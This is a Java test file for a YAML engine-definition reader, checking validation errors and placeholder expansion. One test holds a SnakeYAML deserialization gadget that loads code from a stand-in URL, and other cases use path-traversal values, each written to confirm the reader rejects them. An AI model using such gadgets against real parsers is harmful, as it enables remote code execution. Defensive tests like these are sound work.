package org.westerly.server.engine.definition;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.EnumMap;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.westerly.server.engine.definition.EngineDefinition.Outputs;

class DefinitionReaderTest {

    private static final String GOOD = """
            version: "1"
            engine:
              name: digest
              version: 1.0
              workflowTypes: [SHA]
              workflowTypeVersions:
                SHA: ["256"]
              commandTemplate: [sha256sum, "{workflow_path}"]
              events: "{events}"
              outputs:
                listing: "{workdir}"
              exitCodes:
                3: {outcome: fault, reason: the licence server is down}
            """;

    @TempDir
    Path folder;

    @Test
    void readsWhatIsThere() throws Exception {
        EngineDefinition read = read(GOOD);

        assertThat(read.folderName()).isEqualTo("digest-1.0");
        assertThat(read.workflowTypes()).containsExactly(Map.entry("SHA", List.of("256")));
        assertThat(read.command().template()).hasToString("[sha256sum, {workflow_path}]");
        assertThat(read.results().outputs()).isInstanceOf(Outputs.Listing.class);
        assertThat(read.results().exitCodes())
                .containsEntry(3, new EngineDefinition.ExitMeaning(true, "the licence server is down"));
    }

    @Test
    void readsTheDefinitionsThatComeWithTheServer() throws Exception {
        for (Source source : Source.builtIn()) {
            EngineDefinition read = DefinitionReader.read(source);
            assertThat(read.detected()).isNotEmpty();
            for (String resource : read.bundle().resources()) {
                assertThat(source.open(resource).readAllBytes()).as(resource).isNotEmpty();
            }
        }
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            exitCodes:           | exitCode:            | 12 | unknown key engine.exitCode; did you mean 'exitCodes'?
            {workdir}            | {workdri}            | 11 | there is no placeholder {workdri}; did you mean 'workdir'?
            workflowTypes: [SHA] | workflowTypes: SHA   | 5  | engine.workflowTypes must be a list
            version: 1.0         | version: ../../etc   | 4  | engine.version is '../../etc', but must be
            name: digest         | nmae: digest         | 3  | engine.name is missing
            {events}             | /tmp/{resources}     | 9  | engine.events must lie in the run's folder
            listing              | document: stdout, listing | 11 | not YAML
            "{workdir}"          | "{workdir}", exclude: ["{a"] | 11 | not YAML
            3: {                 | 300: {               | 13 | engine.exitCodes.300 is not an exit code
            outcome: fault       | outcome: maybe       | 13 | engine.exitCodes.3.outcome is 'maybe', but must be one of: failed, fault
            """)
    void namesFileAndLineOfAProblem(String right, String wrong, int line, String problem) {
        InvalidDefinitionException refusal = catchThrowableOfType(
                InvalidDefinitionException.class,
                () -> read(GOOD.replaceFirst(Pattern.quote(right), Matcher.quoteReplacement(wrong))));

        assertThat(refusal.problems())
                .anySatisfy(text -> assertThat(text).contains("engine.yaml:" + line + ": ", problem));
    }

    @Test
    void tellsAllProblemsAtOnce() {
        String many =
                GOOD.replace("name:", "nmae:").replace("{events}", "{event}").replace("outputs:", "output:");

        InvalidDefinitionException refusal = catchThrowableOfType(InvalidDefinitionException.class, () -> read(many));

        assertThat(refusal.problems()).hasSizeGreaterThanOrEqualTo(4);
    }

    @Test
    void makesNoObjectOfAFilesChoice() {
        assertThatThrownBy(() -> read("!!javax.script.ScriptEngineManager [!!java.net.URL [\"http://x/\"]]"))
                .isInstanceOf(InvalidDefinitionException.class)
                .hasMessageContaining("Global tag is not allowed");
    }

    @Test
    void readsTheExampleOfTheManual() throws Exception {
        String manual = Files.readString(Path.of(System.getProperty("westerly.root", ".."), "docs", "engines.md"));
        String example = manual.lines()
                .dropWhile(line -> !line.equals("## Example"))
                .takeWhile(line -> !line.equals("## Keys"))
                .filter(line -> line.startsWith("    "))
                .map(line -> line.substring(4))
                .collect(Collectors.joining("\n"));

        assertThat(read(example).name()).isEqualTo("digest");
    }

    @Test
    void saysThatAFileIsEmpty() {
        assertThatThrownBy(() -> read("# nothing\n")).hasMessageContaining("empty");
    }

    @Test
    void expandsNoPlaceholderOfAValue() {
        Map<Placeholder, String> values = new EnumMap<>(Placeholder.class);
        values.put(Placeholder.WORKFLOW_PATH, "{tmp}/{workflow_path}");
        values.put(Placeholder.TMP, "/tmp");

        assertThat(Template.of("{tmp}/a {workflow_path} {} {X}").fill(values))
                .isEqualTo("/tmp/a {tmp}/{workflow_path} {} {X}");
    }

    private EngineDefinition read(String text) throws Exception {
        Path file = folder.resolve("engine.yaml");
        Files.writeString(file, text);
        return DefinitionReader.read(new Source.InFile(file));
    }
}
